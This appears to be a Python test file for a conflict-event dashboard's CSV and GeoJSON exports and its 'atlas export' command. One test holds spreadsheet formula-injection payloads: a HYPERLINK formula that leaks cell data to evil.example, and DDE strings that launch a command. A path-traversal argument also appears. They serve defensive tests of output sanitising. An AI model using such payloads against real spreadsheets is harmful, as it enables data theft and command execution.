"""Exports: CSV columns and values (ACLED-like), the spreadsheet formula guard, GeoJSON (RFC 7946) validity,
filters and corrections applied, and ``atlas export``."""
from __future__ import annotations

import csv
import datetime
import errno
import io
import json
import math
import os
import signal
import stat
import subprocess
import sys
import time
from dataclasses import replace

import pytest

from dashboard.cli import main
from dashboard.events import extract_events
from dashboard.export import COLUMNS, geo_precision, geojson_text, time_precision, to_csv, to_geojson
from dashboard.ingest import ingest_seeds
from dashboard.reader import article_from_text
from dashboard.store import EventFilter, Store, reads
from gazetteer.place import Place
from gazetteer.resolve import Mention
from tests.fixtures import A2021, A2022, GORI, PLACES, ROOT, UNDATED, add, make_article, run_atlas


@pytest.fixture
def home(tmp_path, monkeypatch):
    monkeypatch.setenv("ATLAS_HOME", str(tmp_path / "home"))
    return tmp_path / "home"


@pytest.fixture
def filled(home):
    with Store.open() as store:
        for spec in (A2021, A2022, UNDATED):
            assert add(store, make_article(*spec), PLACES)
        yield store


def parse_csv(text: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == COLUMNS
    return [dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]]


def test_csv_columns_and_values(filled):
    text = to_csv(filled.event_records())
    assert text.endswith("\r\n") and text.count("\r\n") == 1 + filled.counts()["events"]
    rows = parse_csv(text)
    assert len(rows) == 8
    kapan = next(r for r in rows if r["place"] == "Kapan" and r["sentence"] == "Shelling hit Kapan and Goris.")
    assert kapan == {
        "event_id": kapan["event_id"], "event_date": "2022-09-13", "time_precision": "1", "place": "Kapan",
        "latitude": "39.2076", "longitude": "46.4054", "geo_precision": "1", "country": "Armenia",
        "country_code": "AM", "place_kind": "town", "place_id": "174875", "place_as_written": "Kapan",
        "sentence": "Shelling hit Kapan and Goris.", "article_title": "Kapan shelled",
        "url": "https://example.com/kapan", "source_file": "Kapan shelled.txt",
        "article_id": make_article(*A2022).id, "confidence": "0.9", "corrected": "false",
        "date_value": "2022-09-13", "date_last": "2022-09-13", "date_source": "published", "role": "literal",
        "role_confidence": "0.9", "actors": "", "event_type": "Explosions/Remote violence",
        "sub_event_type": "Shelling/artillery/missile attack", "fatalities": "", "fatalities_high": "",
        "reports": kapan["reports"], "sources": kapan["sources"], "cluster_id": kapan["cluster_id"],
        "event_row": "true", "story_id": kapan["story_id"], "outlets": "example.com",
        "report_sentences": json.dumps([{"article_id": make_article(*A2022).id, "start": 35, "end": 64,
                                         "outlet": "example.com", "sentence": "Shelling hit Kapan and Goris."}],
                                       separators=(",", ":")), "corrected_by": "", "corrected_at": ""}
    text_of = filled.article(kapan["article_id"]).text
    assert text_of[35:64] == "Shelling hit Kapan and Goris."  # the offsets are the article's
    assert int(kapan["reports"]) >= 1 and int(kapan["sources"]) >= 1 and int(kapan["cluster_id"]) > 0
    assert int(kapan["event_id"]) > 0
    armenia = next(r for r in rows if r["place"] == "Armenia")
    assert armenia["geo_precision"] == "3" and armenia["place_kind"] == "country"
    undated = next(r for r in rows if r["article_title"] == "Border tension" and r["place"] == "Kapan")
    assert undated["event_date"] == "" and undated["time_precision"] == "" and undated["url"] == ""
    # newest first, undated last: the table's order
    dates = [r["event_date"] for r in rows]
    assert dates == sorted([d for d in dates if d], reverse=True) + [""] * dates.count("")


def test_precision_mappings():
    day = datetime.date(2022, 9, 13)
    assert [time_precision(day, p) for p in ("day", "week", "month", "year", None)] == [1, 2, 3, 3, 1]
    assert time_precision(None, None) is None
    assert [geo_precision(k) for k in ("town", "site", "district", "water", "terrain", "route", "province",
                                       "region", "country", "continent")] == [1, 1, 2, 2, 2, 2, 3, 3, 3, 3]


HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0")
WESTVILLE = Place(-42, "Westville", 10.25, -70.5, "VE", "P", "PPL", 500)


def test_csv_guards_against_spreadsheet_formulas(home):
    text = "\n\n".join([HOSTILE[0], *(f"{h} Shelling hit Westville." for h in HOSTILE[1:])]) + "\n"
    article = article_from_text(text, "=evil.txt")
    mentions = []
    start = article.text.find("Westville")
    while start >= 0:
        mentions.append(Mention(start, start + 9, "Westville", WESTVILLE, 0.8, ()))
        start = article.text.find("Westville", start + 1)
    with Store.open() as store:
        assert store.add_article(article, mentions, extract_events(article, mentions), parser="test")
        rows = parse_csv(to_csv(store.event_records()))
    assert len(rows) == 3
    for row in rows:
        for column, value in row.items():
            if column in ("latitude", "longitude", "place_id", "confidence", "event_id", "time_precision",
                          "geo_precision"):
                continue
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
        assert row["article_title"] == "'" + HOSTILE[0]
        assert row["source_file"] == "'=evil.txt"
        assert row["sentence"][:2] in ("'+", "'-", "'@")
        # numbers stay numbers, negative or not
        assert (row["longitude"], row["place_id"]) == ("-70.5", "-42")
    assert {r["sentence"][1:].split(" Shelling")[0] for r in rows} == set(HOSTILE[1:])


def test_geojson_is_a_valid_feature_collection(filled):
    records = filled.event_records()
    data = to_geojson(records)
    assert set(data) == {"type", "features"} and data["type"] == "FeatureCollection"
    assert len(data["features"]) == len(records) == 8
    for feature, rec in zip(data["features"], records, strict=True):
        assert set(feature) == {"type", "id", "geometry", "properties"} and feature["type"] == "Feature"
        assert feature["geometry"] == {"type": "Point", "coordinates": [rec.lon, rec.lat]}  # longitude first
        lon, lat = feature["geometry"]["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert tuple(feature["properties"]) == COLUMNS and feature["id"] == rec.id
    kapan = next(f["properties"] for f in data["features"] if f["properties"]["place"] == "Kapan")
    assert isinstance(kapan["latitude"], float) and kapan["corrected"] is False and kapan["time_precision"] == 1
    undated = [f["properties"] for f in data["features"] if f["properties"]["event_date"] is None]
    assert undated and all(p["time_precision"] is None and p["url"] is None for p in undated)
    text = geojson_text(records)
    assert json.loads(text) == json.loads(json.dumps(data))
    assert "NaN" not in text and "Infinity" not in text
    assert to_geojson([]) == {"type": "FeatureCollection", "features": []}


def test_exports_carry_the_event_type_and_the_deaths(home):
    article = make_article("Clashes near Kapan", "September 13, 2022",
                           "Between 10 and 15 soldiers were killed in clashes near Kapan on Sunday.")
    with Store.open() as store:
        assert add(store, article, PLACES)
        rows = {r["sentence"]: r for r in parse_csv(to_csv(store.event_records()))}
        features = [f["properties"] for f in to_geojson(store.event_records())["features"]]
    body = rows["Between 10 and 15 soldiers were killed in clashes near Kapan on Sunday."]
    assert (body["event_type"], body["sub_event_type"], body["fatalities"], body["fatalities_high"]) == \
        ("Battles", "Armed clash", "10", "15")
    assert rows["Clashes near Kapan"]["fatalities"] == "" and rows["Clashes near Kapan"]["event_type"] == "Battles"
    assert sorted((p["fatalities"] or 0, p["fatalities_high"] or 0) for p in features) == [(0, 0), (10, 15)]


def test_geojson_refuses_a_coordinate_that_is_not_a_number(filled):
    broken = replace(filled.event_records()[0], lat=math.nan)
    with pytest.raises(ValueError):
        geojson_text([broken])


def test_exports_apply_filters_and_corrections(filled):
    a2022 = make_article(*A2022)
    start = a2022.text.index("Goris")
    filled.correct(a2022.id, start, start + 5, GORI.id)
    rows = parse_csv(to_csv(filled.event_records(EventFilter(datetime.date(2022, 1, 1), undated=False))))
    assert {r["event_date"] for r in rows} == {"2022-09-13"}
    gori = [r for r in rows if r["place"] == "Gori"]
    assert [(r["country_code"], r["corrected"], r["confidence"], r["place_as_written"]) for r in gori] == [
        ("GE", "true", "1.0", "Goris")]
    assert not [r for r in rows if r["place"] == "Goris"]
    only_ge = to_geojson(filled.event_records(EventFilter(country=("GE",))))
    assert [f["properties"]["place"] for f in only_ge["features"]] == ["Gori"]
    assert only_ge["features"][0]["properties"]["corrected"] is True
    filled.correct(a2022.id, start, start + 5, None)
    assert not [r for r in parse_csv(to_csv(filled.event_records())) if r["place_as_written"] == "Goris"
                and r["article_id"] == a2022.id]


# -- atlas export --------------------------------------------------------------------------------------
def test_atlas_export_to_stdout_and_files(filled, home, tmp_path, capsys):
    assert main(["export"]) == 0
    out, _ = capsys.readouterr()
    assert len(parse_csv(out)) == 8
    assert main(["export", "--from", "2022-01-01", "--no-undated", "--country", "AM", "--kind", "town"]) == 0
    out, _ = capsys.readouterr()
    assert {(r["place"], r["event_date"]) for r in parse_csv(out)} == {("Kapan", "2022-09-13"), ("Goris", "2022-09-13")}
    assert main(["export", "--country", "XX"]) == 0  # a filter nothing matches: the header, and a note why
    out, err = capsys.readouterr()
    assert parse_csv(out) == [] and out.startswith("event_id") and "none matches the filter" in err
    target = tmp_path / "out" / "events.geojson"
    assert main(["export", "-o", str(target), "--search", "Armenia"]) == 0
    _, err = capsys.readouterr()
    data = json.loads(target.read_text(encoding="utf-8"))
    assert data["type"] == "FeatureCollection"
    assert {f["properties"]["place"] for f in data["features"]} == {"Armenia"}
    assert "2 events written" in err and "geojson" in err
    assert main(["export", "--format", "csv", "-o", str(tmp_path / "x.json"),
                 "--article", make_article(*A2021).id, "--min-confidence", "0.5"]) == 0
    assert len(parse_csv((tmp_path / "x.json").read_text(encoding="utf-8"))) == 3
    assert not list((tmp_path / "out").glob(".*"))  # no temporary file left behind


def test_atlas_export_filters_by_event_type_and_sources_as_the_page_does(home, capsys, gazetteer):
    """``--type`` and ``--min-sources`` are the page's ``?type=`` and ``?sources=``: the same EventFilter."""
    with Store.open() as store:
        ingest_seeds(store, gazetteer)
        for args in ([], ["--type", "battles"], ["--type", "battles", "--type", "strategic"], ["--min-sources", "2"]):
            assert main(["export", *args]) == 0
            rows = parse_csv(capsys.readouterr()[0])
            flt = EventFilter(event_types=[a for a in args if a in ("battles", "strategic")],
                              min_sources=int(args[1]) if args[:1] == ["--min-sources"] else 1)
            assert {r["event_id"] for r in rows} == {str(r.id) for r in store.event_records(flt)}
            if "battles" in args:
                assert rows and {r["event_type"] for r in rows} <= {"Battles", "Strategic developments"}
            if "--min-sources" in args:
                assert rows and all(int(r["sources"]) >= 2 for r in rows)


@pytest.mark.parametrize("args", [["--from", "yesterday"], ["--country", "Armenia"], ["--kind", "planet"],
                                  ["--min-confidence", "2"], ["--article", "../../etc"], ["--format", "xlsx"],
                                  ["--from", "2022-12-31", "--to", "2022-01-01"], ["--type", "war"],
                                  ["--min-sources", "0"], ["--min-sources", "many"]])
def test_atlas_export_refuses_bad_options(filled, args, capsys):
    with pytest.raises(SystemExit) as exc:
        main(["export", *args])
    assert exc.value.code == 2
    assert "atlas export" in capsys.readouterr().err


def test_atlas_export_command(tmp_path):
    home = tmp_path / "home"
    with Store(home / "atlas.sqlite") as store:
        for spec in (A2021, A2022):
            add(store, make_article(*spec), PLACES)
    done = run_atlas("export", "--format", "geojson", "--place", "174895", home=home)
    assert done.returncode == 0, done.stderr
    data = json.loads(done.stdout)
    assert {f["properties"]["place"] for f in data["features"]} == {"Goris"}
    assert len(data["features"]) == 3


# -- export failures: a message and an exit status, never a traceback; no temporary file left ------------
def test_streaming_writers_match_the_whole_text_writers(filled):
    from dashboard.export import write_rows
    records = filled.event_records()
    assert list(filled.iter_event_records(batch=2)) == records  # batches, one state of the store
    assert list(filled.iter_event_records(limit=3, batch=2)) == records[:3]
    for fmt, whole in (("csv", to_csv(records)), ("geojson", geojson_text(records) + "\n")):
        out = io.StringIO()
        assert write_rows(iter(records), out, fmt) == len(records)
        assert out.getvalue() == whole
    with pytest.raises(ValueError):
        write_rows(records, io.StringIO(), "xlsx")


@pytest.mark.parametrize("args", [["--place", "99999999999999999999"], ["--place", "-9223372036854775809"],
                                  ["--place", "1e3"], ["--place", "١٢٣"]])
def test_atlas_export_refuses_ids_beyond_64_bits(filled, args, capsys):
    with pytest.raises(SystemExit) as exc:
        main(["export", *args])
    assert exc.value.code == 2
    err = capsys.readouterr().err
    assert "not a place id" in err and "Traceback" not in err


def test_atlas_export_to_a_folder_or_an_unwritable_place_says_so(filled, tmp_path, capsys, monkeypatch):
    assert main(["export", "-o", str(tmp_path)]) == 2
    assert "is a folder" in capsys.readouterr().err
    blocker = tmp_path / "file"
    blocker.write_text("x")
    assert main(["export", "-o", str(blocker / "events.csv")]) == 2
    assert "not a folder" in capsys.readouterr().err

    import tempfile

    def denied(*a, **k):
        raise PermissionError(13, "Permission denied")
    monkeypatch.setattr(tempfile, "mkstemp", denied)  # a read-only folder (root may write anywhere)
    assert main(["export", "-o", str(tmp_path / "ro" / "events.csv")]) == 2
    err = capsys.readouterr().err
    assert "permission denied" in err and "Traceback" not in err


def test_atlas_export_to_a_full_disk(filled, tmp_path, capsys):
    if not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full")
    assert main(["export", "-o", "/dev/full"]) == 1
    assert "no space left" in capsys.readouterr().err
    done = run_atlas_in(tmp_path, "export", "-o", "/dev/full", home=filled.path.parent)
    assert done.returncode == 1 and "no space left" in done.stderr and "Traceback" not in done.stderr
    with open("/dev/full", "w") as full:  # the standard output on a full disk
        env = {**os.environ, "ATLAS_HOME": str(filled.path.parent)}
        done = subprocess.run([sys.executable, "-m", "dashboard.cli", "export"], stdout=full, stderr=subprocess.PIPE,
                              text=True, env=env, cwd=ROOT, timeout=120)
    assert done.returncode == 1 and "no space left" in done.stderr and "Traceback" not in done.stderr
    assert "Exception ignored" not in done.stderr


def test_a_failed_write_keeps_the_old_file_and_leaves_no_temporary_file(filled, tmp_path, capsys, monkeypatch):
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    import dashboard.export as export
    target = tmp_path / "events.csv"
    target.write_text("old", encoding="utf-8")

    def full(rows, out, fmt):
        out.write("partial")
        raise OSError(errno.ENOSPC, "No space left on device")
    monkeypatch.setattr("dashboard.cli.write_rows", full)
    assert main(["export", "-o", str(target)]) == 1
    assert "no space left" in capsys.readouterr().err
    assert target.read_text(encoding="utf-8") == "old" and sorted(p.name for p in tmp_path.iterdir()) == ["events.csv"]

    def interrupted(rows, out, fmt):
        out.write("partial")
        raise KeyboardInterrupt
    monkeypatch.setattr("dashboard.cli.write_rows", interrupted)
    assert main(["export", "-o", str(target)]) == 130
    assert target.read_text(encoding="utf-8") == "old" and sorted(p.name for p in tmp_path.iterdir()) == ["events.csv"]
    assert export  # the module under test


def test_a_killed_export_leaves_nothing_behind_and_stale_files_are_cleaned(filled, tmp_path):
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    target = tmp_path / "events.csv"
    env = {**os.environ, "ATLAS_HOME": str(filled.path.parent)}
    # SIGTERM while writing: the temporary file is removed (the writer is slowed down to be caught at it).
    code = ("import sys, time, dashboard.cli as c\n"
            "real = c.write_rows\n"
            "def slow(rows, out, fmt):\n"
            "    out.write('x' * 1000); out.flush(); print('writing', flush=True); time.sleep(30)\n"
            "c.write_rows = slow\n"
            f"sys.exit(c.main(['export', '-o', {str(target)!r}]))\n")
    proc = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            env=env, cwd=ROOT)
    assert proc.stdout.readline().strip() == "writing"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".events.csv.")]
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 130 and "Traceback" not in err
    assert list(tmp_path.iterdir()) == []
    # A SIGKILLed run's file is left; the next run removes it (its process is gone), and not a live one's.
    stale = tmp_path / ".events.csv.999999999.abcd1234.part"
    old_style = tmp_path / ".events.csv.k2j4h5g6"
    live = tmp_path / f".events.csv.{os.getpid()}.zzzz1111.part"
    other = tmp_path / ".other.csv.999999999.abcd1234.part"
    for p in (stale, old_style, live, other):
        p.write_text("partial")
    os.utime(old_style, (time.time() - 3600, time.time() - 3600))
    assert main(["export", "-o", str(target)]) == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([target.name, live.name, other.name])


def test_exported_files_get_the_users_umask(filled, tmp_path):
    previous = os.umask(0o027)
    try:
        assert main(["export", "-o", str(tmp_path / "a.csv")]) == 0
        assert stat.S_IMODE((tmp_path / "a.csv").stat().st_mode) == 0o640
        os.umask(0o002)
        assert main(["export", "-o", str(tmp_path / "b.geojson")]) == 0
        assert stat.S_IMODE((tmp_path / "b.geojson").stat().st_mode) == 0o664
        os.chmod(tmp_path / "a.csv", 0o600)  # replacing a file keeps its mode
        assert main(["export", "-o", str(tmp_path / "a.csv")]) == 0
        assert stat.S_IMODE((tmp_path / "a.csv").stat().st_mode) == 0o600
    finally:
        os.umask(previous)


def run_atlas_in(cwd, *args, home):
    env = {**os.environ, "ATLAS_HOME": str(home)}
    return subprocess.run([sys.executable, "-m", "dashboard.cli", *args], capture_output=True, text=True, env=env,
                          cwd=ROOT, timeout=120)


def test_each_event_carries_its_report_sentences_with_offsets(home, monkeypatch):
    """An event two outlets report (and a wire copy of one): every row of it lists every report, with its
    article id and the sentence's character offsets in that article's text (GDELT's mentions, in a column)."""
    clash = ("Azerbaijani artillery shelled Goris overnight, killing three soldiers, the defence ministry said on "
             "Tuesday in a statement. Residents of the town said the shelling lasted for several hours.")
    specs = [("Clash at Goris", "September 13, 2022", clash, "https://www.agency.com/a"),
             ("Goris shelled", "September 13, 2022", "Artillery shelled Goris overnight and killed three soldiers, "
              "the defence ministry said.", "https://news.other.am/b"),
             ("Reprinted", "September 13, 2022", clash + " Subscribe.", "https://www.reprint.org/c")]
    with Store.open() as store:
        for spec in specs:
            assert add(store, make_article(*spec), {"Goris": PLACES["Goris"]})
        records = [r for r in store.event_records() if r.fatalities == 3]
        assert records and {r.cluster_id for r in records} == {records[0].cluster_id}
        texts = {a.id: store.article(a.id).text for a in store.article_list()}
    rows = parse_csv(to_csv(records))
    for row in rows:
        reports = json.loads(row["report_sentences"])
        assert len(reports) == int(row["reports"]) == 3 and int(row["sources"]) == 2
        assert row["outlets"] == "agency.com; other.am"  # the copy's outlet is its original's
        assert {r["outlet"] for r in reports} == {"agency.com", "other.am"}
        for r in reports:
            assert " ".join(texts[r["article_id"]][r["start"]:r["end"]].split()) == r["sentence"]
            assert "three soldiers" in r["sentence"]
    feature = json.loads(geojson_text(records))["features"][0]
    assert feature["properties"]["report_sentences"] == json.loads(rows[0]["report_sentences"])
    # an event of hundreds of reports lists its oldest (every row of it repeats them): the counts stay whole
    monkeypatch.setattr(reads, "REPORTS_LISTED", 2)
    with Store.open() as store:
        capped = [r for r in store.event_records() if r.fatalities == 3]
    assert {len(r.report_sentences) for r in capped} == {2} and {(r.reports, r.sources) for r in capped} == {(3, 2)}
    assert {r.outlets for r in capped} == {("agency.com", "other.am")}


def test_event_row_marks_each_event_once_at_each_place_as_the_map_counts_them(seeded):
    with Store(seeded / "atlas.sqlite") as store:
        records = store.event_records(EventFilter())
        on_map = sum(p.events for p in store.place_counts())
    rows = list(csv.DictReader(io.StringIO(to_csv(records))))
    firsts = [r for r in rows if r["event_row"] == "true"]
    assert len(rows) > len(firsts) == on_map  # the seeds' clash of 13 September: 001 and 003 report it
    seen: dict[tuple[str, str], list[str]] = {}
    for r in rows:
        seen.setdefault((r["cluster_id"], r["place_id"]), []).append(r["event_row"])
    assert all(flags[0] == "true" and "true" not in flags[1:] for flags in seen.values())
    assert any(len(flags) > 1 for flags in seen.values())
    features = to_geojson(records)["features"]
    assert [f["properties"]["event_row"] for f in features] == [r["event_row"] == "true" for r in rows]
